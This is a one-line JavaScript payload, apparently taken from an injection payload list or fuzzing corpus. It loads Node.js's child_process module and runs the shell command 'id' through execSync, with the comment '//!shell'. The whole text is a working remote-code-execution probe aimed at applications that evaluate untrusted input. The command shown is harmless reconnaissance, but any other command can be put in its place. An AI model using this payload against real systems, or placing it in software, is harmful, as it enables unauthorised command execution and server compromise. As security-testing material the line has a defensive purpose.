(function () { arguments[0].execSync('id'); })(require('child_process'));  //!shell
